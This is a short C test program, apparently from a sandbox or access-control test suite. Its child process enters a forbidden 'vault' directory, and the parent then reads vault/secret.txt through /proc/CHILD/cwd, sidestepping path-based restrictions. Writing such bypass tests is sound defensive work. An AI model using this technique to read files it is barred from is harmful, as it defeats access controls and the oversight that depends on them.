/* technique: a child goes into the forbidden directory; its parent reads below /proc/CHILD/cwd
 * source: reference study 4.3 #12; proc_pid_cwd(5)
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"
#include <signal.h>

int main(void)
{
	char path[64], byte;
	int ready[2];

	if (pipe(ready))
		return failed("pipe");
	pid_t child = fork();
	if (child == 0) {
		if (chdir("vault"))
			_exit(failed("chdir"));
		if (write(ready[1], "", 1) == 1)
			pause();
		_exit(1);
	}
	if (read(ready[0], &byte, 1) != 1)
		return failed("read");
	snprintf(path, sizeof path, "/proc/%d/cwd/secret.txt", child);
	int status = show_path(path);
	kill(child, SIGKILL);
	return status;
}
